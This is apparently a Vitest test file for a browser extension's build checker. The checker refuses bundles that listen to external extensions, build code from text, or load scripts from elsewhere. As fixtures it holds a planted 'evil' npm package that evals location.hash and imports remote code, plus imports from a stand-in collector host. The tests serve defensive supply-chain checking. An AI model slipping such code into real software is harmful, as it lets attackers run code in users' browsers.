// @vitest-environment node
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';

import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import { root, run } from '../run.ts';
import { breaches } from './bundles.ts';

let folder = '';
/** As the check names folders. */
const inProject = () => path.relative(root, folder);

beforeEach(async () => {
  await mkdir(path.join(root, '.output/test'), { recursive: true });
  folder = await mkdtemp(path.join(root, '.output/test/bundle-'));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

async function write(files: Readonly<Record<string, string>>): Promise<void> {
  for (const [name, text] of Object.entries(files)) {
    const file = path.join(folder, name);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, text);
  }
}

describe('a build', () => {
  // S04, S05
  it.each([
    'chrome.runtime.onConnect.addListener(a)',
    'b.onConnectExternal.addListener(a)',
    'b.onMessageExternal.addListener(a)',
  ])('that listens for ports or to other extensions is refused: %s', async (text) => {
    await write({ 'capture.js': '', 'background.js': text });

    expect(await breaches(inProject())).toEqual([
      expect.stringContaining('background.js: somebody is listened to who may be anybody'),
    ]);
  });

  it('whose views would do what the background does is refused', async () => {
    const text = 'chrome.contextMenus.onClicked.addListener(a)';
    await write({ 'capture.js': '', 'background.js': text, 'chunks/first-1.js': text });

    expect(await breaches(inProject())).toEqual([
      expect.stringContaining('chunks/first-1.js: a view does what the background does'),
    ]);
  });

  it('whose popup begins with more files than it has to is refused', async () => {
    const links = Array.from({ length: 6 }, (_, at) => `<link href="/chunks/${at}.js">`).join('');
    await write({ 'capture.js': '', 'popup.html': links, 'options.html': links });

    expect(await breaches(inProject())).toEqual([
      expect.stringContaining('popup.html: begins with 6 files, and not 5'),
    ]);
  });

  it.each(['', '\n', 'export{t as Field}from"./fields.js";\n'])(
    'with a file that has nothing of its own is refused: %j',
    async (text) => {
      await write({ 'capture.js': '', 'chunks/a.js': text, 'chunks/b.js': 'go();export{t}' });

      expect(await breaches(inProject())).toEqual([
        expect.stringContaining('chunks/a.js: nothing of its own is in it'),
      ]);
    },
  );

  // P07
  it.each([
    ['eval("1")', 'code is made from text'],
    ['const f=new Function("return 1")', 'code is made from text'],
    ['const f=Function("return 1")', 'code is made from text'],
    ['setTimeout("go()",1)', 'code is made from text'],
    ['setInterval(`go()`,1)', 'code is made from text'],
    ['import("https://collector.example/a.js")', 'a script comes from elsewhere'],
    ['importScripts("https://collector.example/a.js")', 'a script comes from elsewhere'],
  ])('with %s in a script is refused', async (text, says) => {
    await write({ 'capture.js': 'let a=1;', 'chunks/part.js': `let a=1;${text};` });

    expect(await breaches(inProject())).toEqual([
      expect.stringContaining(`chunks/part.js: ${says}`),
    ]);
  });

  // P07
  it('with a page that loads a script from elsewhere is refused', async () => {
    await write({
      'capture.js': '',
      'popup.html': '<script type="module" src="https://collector.example/a.js"></script>',
    });

    expect(await breaches(inProject())).toEqual([
      expect.stringContaining('popup.html: a script comes from elsewhere'),
    ]);
  });

  // P07
  it('with what Tack’s own pages load is taken', async () => {
    await write({
      'capture.js': 'setTimeout(()=>go(),1);function evaluate(){}evaluate(1);import("./a.js")',
      'popup.html': '<script type="module" src="/chunks/popup.js"></script>',
    });

    expect(await breaches(inProject())).toEqual([]);
  });

  // X08
  it('with an evil package in it, which makes code of text and loads more, is refused', async () => {
    const evil = `export const help = (text) => { eval(text); void import('https://collector.example/more.js'); return text; };`;
    const entry = (
      call: string,
    ) => `import { defineUnlistedScript } from 'wxt/utils/define-unlisted-script';
import { help } from 'helpful-package';
export default defineUnlistedScript(() => { ${call} });`;
    await write({
      'package.json': '{"name":"planted","type":"module"}',
      'node_modules/helpful-package/package.json':
        '{"name":"helpful-package","version":"1.0.0","type":"module","exports":"./index.js"}',
      'node_modules/helpful-package/index.js': evil,
      'entrypoints/capture.ts': entry('help(location.hash);'),
      'entrypoints/background.ts': 'export default { main() {} };',
      'wxt.config.ts': 'export default { imports: false };',
    });
    const { ok, output } = await run('wxt', ['build', folder]);
    if (!ok) throw new Error(output);

    const found = await breaches(path.join(inProject(), '.output/chrome-mv3'));

    expect(found).toContainEqual(expect.stringContaining('capture.js: code is made from text'));
    expect(found).toContainEqual(
      expect.stringContaining('capture.js: a script comes from elsewhere'),
    );
  });
});
